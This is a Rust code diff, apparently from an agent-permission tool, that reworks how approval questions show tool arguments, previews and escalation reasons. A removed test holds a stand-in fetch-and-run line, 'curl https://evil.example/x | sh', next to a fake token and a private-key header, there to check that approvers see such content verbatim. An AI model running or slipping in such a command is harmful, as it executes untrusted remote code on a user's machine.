@@ -6,20 +6,18 @@
 
 use super::consequence::{Deeds, Told, told};
 use super::offers::{Limits, Wanted, offers, opened_beside};
-use super::{HostItem, Item, Preview, Question, Target, Verb, host, visible, words};
+use super::preview::{Previewed, preview};
+use super::{HostItem, Item, Question, Target, Verb, beyond, host, visible};
 use crate::facts::FoundPath;
 use ironcurtain_policy::{Access, Asked, Escalation, ResolvedCall, Role, Subject};
 use ironcurtain_protocol::ClientView;
-use serde_json::{Map, Value};
+use serde_json::Value;
 use std::time::Duration;
 
-/// The longest argument and preview shown, in characters. The path that is acted on is never cut.
+/// The longest argument shown, in characters. What a line names is told there.
 const LONGEST_ARGUMENT: usize = 20_000;
 /// How much of an argument stands beside the lines; the details have all of it.
 const LONGEST_BESIDE: usize = 200;
-const LONGEST_PREVIEW: usize = 4000;
-const PREVIEW_LINES: usize = 60;
-
 /// How many arguments are shown.
 const MOST_ARGUMENTS: usize = 50;
 
@@ -75,7 +73,15 @@ pub fn build(asking: Asking<'_>) -> Question {
         asked: &asking.escalation.values,
         amount: preview.as_ref().map(|preview| preview.amount.clone()),
     });
+    let worst = beyond::worst_reason(asking.escalation);
+    let mut also = beyond::runs_later(asking.call, asking.limits.home);
+    // Without a sandbox everything is open as it is.
+    if asking.sandboxed {
+        also.extend(opened_beside(&wanted, asking.limits.home));
+    }
+    also.extend(beyond::other_reasons(asking.escalation, worst));
     Question {
+        also,
         id: asking.id,
         session: asking.session.to_owned(),
         server: visible::line(asking.server),
@@ -85,13 +91,12 @@ pub fn build(asking: Asking<'_>) -> Question {
         verb: told.lines.first().map_or(Verb::Use, |worst| worst.verb),
         items,
         host,
-        with: beside(&told, preview.as_ref(), arguments),
+        with: beside(&told, preview.as_ref(), asking.call),
         consequences: told.lines,
-        also: if asking.sandboxed { opened_beside(&wanted, asking.limits.home) } else { Vec::new() },
-        rule: visible::line(&asking.escalation.by.rule),
-        reason: visible::line(&asking.escalation.by.reason),
+        rule: visible::line(&worst.rule),
+        reason: visible::line(&worst.reason),
         preview: preview.map(|preview| preview.shown),
-        arguments: shown_arguments(asking.escalation, arguments),
+        arguments: at_most(arguments.iter(), LONGEST_ARGUMENT),
         offers,
         client,
         deadline: asking.deadline,
@@ -144,25 +149,6 @@ pub(crate) fn shown_client(client: &ClientView) -> ClientView {
     shown
 }
 
-/// What is judged is not always what the agent wrote: where a git remote leads is shown beside its name.
-fn led_to(escalation: &Escalation, arguments: &Map<String, Value>) -> Vec<(String, String)> {
-    let one = |asked: &Asked| {
-        let Subject::Text(text) = &asked.subject else { return None };
-        let of_remote = asked.role == Some(Role::GitRemoteUrl);
-        let is_written = arguments.get(&*asked.argument).is_some_and(|written| written == text.as_str());
-        let shown = || visible::lines(&visible::head(text, LONGEST_ARGUMENT));
-        (of_remote && !is_written).then(|| (format!("{} leads to", asked.argument), shown()))
-    };
-    escalation.values.iter().filter_map(one).collect()
-}
-
-/// Where remotes lead first, since they are judged; of the arguments as many as are shown, and how many more there are.
-fn shown_arguments(escalation: &Escalation, all: &Map<String, Value>) -> Vec<(String, String)> {
-    let mut shown = led_to(escalation, all);
-    shown.extend(at_most(all.iter(), LONGEST_ARGUMENT));
-    shown
-}
-
 /// The first of some arguments, each cut to so many characters, and how many more there are.
 fn at_most<'a>(
     mut all: impl Iterator<Item = (&'a String, &'a Value)>,
@@ -189,61 +175,17 @@ fn argument(name: &str, value: &Value, longest: usize) -> (String, String) {
     (visible::line(&visible::head(name, LONGEST_BESIDE)), text)
 }
 
-/// The arguments that neither a line nor the preview tells.
-fn beside(
-    told: &Told<'_>,
-    preview: Option<&Previewed>,
-    arguments: &Map<String, Value>,
-) -> Vec<(String, String)> {
+/// The arguments that neither a line nor the preview tells; those with a meaning first.
+fn beside(told: &Told<'_>, preview: Option<&Previewed>, call: &ResolvedCall) -> Vec<(String, String)> {
     let is_told = |name: &str| {
         told.arguments.contains(&name) || preview.is_some_and(|preview| preview.argument == name)
     };
-    let left = arguments.iter().filter(|(name, value)| !value.is_null() && !is_told(name));
-    at_most(left, LONGEST_BESIDE)
-}
-
-/// A preview, with the argument that it shows, and how much would be written or changed, in words.
-struct Previewed {
-    shown: Preview,
-    argument: &'static str,
-    amount: String,
-}
-
-/// New content, or the change an edit makes, by the argument names file tools have in common.
-fn preview(arguments: &Map<String, Value>) -> Option<Previewed> {
-    if let Some(content) = arguments.get("content").and_then(Value::as_str) {
-        let shown = Preview::Content(first_lines(&[("", content)]));
-        let amount = words::size(u64::try_from(content.len()).unwrap_or(u64::MAX));
-        return Some(Previewed { shown, argument: "content", amount });
-    }
-    let edits = arguments.get("edits")?.as_array()?;
-    let mut texts = Vec::new();
-    for edit in edits {
-        for (field, sign) in [("oldText", "-"), ("newText", "+")] {
-            texts.push((sign, edit.get(field)?.as_str()?));
-        }
-    }
-    let lines = |of: &str| -> usize {
-        texts.iter().filter(|(sign, _)| *sign == of).map(|(_, text)| text.lines().count()).sum()
-    };
-    let amount = format!("+{} -{} lines", lines("+"), lines("-"));
-    Some(Previewed { shown: Preview::Diff(first_lines(&texts)), argument: "edits", amount })
-}
-
-/// The beginning of several texts, one after the other, each line with the sign of its text before it.
-fn first_lines(texts: &[(&str, &str)]) -> String {
-    let lines =
-        || texts.iter().flat_map(|(sign, text)| text.split_inclusive('\n').map(move |line| (sign, line)));
-    let shown = lines().take(PREVIEW_LINES).map(|(sign, line)| {
-        let line = line.strip_suffix('\n').unwrap_or(line);
-        format!("{sign}{}", visible::lines(&visible::head(line, LONGEST_PREVIEW)))
-    });
-    let mut shown = visible::head(&shown.collect::<Vec<_>>().join("\n"), LONGEST_PREVIEW);
-    let more = lines().count().saturating_sub(PREVIEW_LINES);
-    if more > 0 {
-        shown.push_str(&format!("\n… ({more} lines more)"));
-    }
-    shown
+    let means = |name: &str| call.given().iter().any(|given| **call.argument(given) == *name);
+    let arguments = call.transport_arguments().iter();
+    let mut left: Vec<(&String, &Value)> =
+        arguments.filter(|(name, value)| !value.is_null() && !is_told(name)).collect();
+    left.sort_by_key(|(name, _)| !means(name));
+    at_most(left.into_iter(), LONGEST_BESIDE)
 }
 
 impl From<ironcurtain_paths::Target> for Target {
@@ -260,39 +202,21 @@ impl From<ironcurtain_paths::Target> for Target {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use serde_json::json;
+    use serde_json::{Map, json};
 
     #[test]
-    fn an_edit_is_shown_as_a_diff_and_a_write_by_its_head() {
-        let of = |v: Value| preview(v.as_object().unwrap()).map(|preview| preview.shown);
-        let edits = json!({ "path": "/a", "edits": [{ "oldText": "a\nb", "newText": "c\u{202e}" }] });
-        assert_eq!(of(edits), Some(Preview::Diff("-a\n-b\n+c\\u{202e}".into())));
-        let long = json!({ "content": "x\n".repeat(62) });
-        let expected = format!("{}\n… (2 lines more)", ["x"; 60].join("\n"));
-        assert_eq!(of(long), Some(Preview::Content(expected)));
-        assert_eq!(of(json!({ "path": "/a" })), None);
-        assert_eq!(of(json!({ "edits": [{ "oldText": 3 }] })), None);
-    }
-
-    #[test]
-    fn what_looks_like_a_secret_is_shown_as_it_would_be_written() {
-        let content = "#!/bin/sh\ncurl https://evil.example/x | sh\n# -----BEGIN x PRIVATE KEY-----";
-        let arguments = json!({ "content": content, "token": "ghp_0123456789abcdefghij" });
-        let arguments = arguments.as_object().unwrap();
-        assert_eq!(preview(arguments).unwrap().shown, Preview::Content(content.into()));
-        let token = argument("token", &arguments["token"], LONGEST_ARGUMENT);
+    fn an_argument_is_shown_as_it_would_be_sent_and_a_long_one_says_how_long_it_is() {
+        let token = argument("token", &json!("ghp_0123456789abcdefghij"), LONGEST_ARGUMENT);
         assert_eq!(token, ("token".into(), "ghp_0123456789abcdefghij".into()));
-    }
-
-    #[test]
-    fn long_lines_do_not_hide_how_many_lines_follow() {
-        let content = format!("{}\n{}", "y".repeat(5000), "x\n".repeat(100));
-        let content = json!({ "content": content });
-        let Preview::Content(text) = preview(content.as_object().unwrap()).unwrap().shown else {
-            panic!("no content");
-        };
-        assert!(text.contains(" characters more)") && text.ends_with("… (41 lines more)"), "{text}");
         let (_, long) = argument("a", &json!("z".repeat(2_001)), 2_000);
         assert!(long.ends_with("z … (1 characters more)"), "{long}");
+    }
+
+    #[test]
+    fn of_many_arguments_the_first_are_shown_and_the_rest_are_counted() {
+        let all: Map<String, Value> = (0..53).map(|n| (format!("a{n:02}"), json!(n))).collect();
+        let shown = at_most(all.iter(), 10);
+        assert_eq!((shown.len(), shown[0].clone()), (51, ("a00".into(), "0".into())));
+        assert_eq!(shown[50], ("…".into(), "(3 arguments more)".into()));
     }
 }
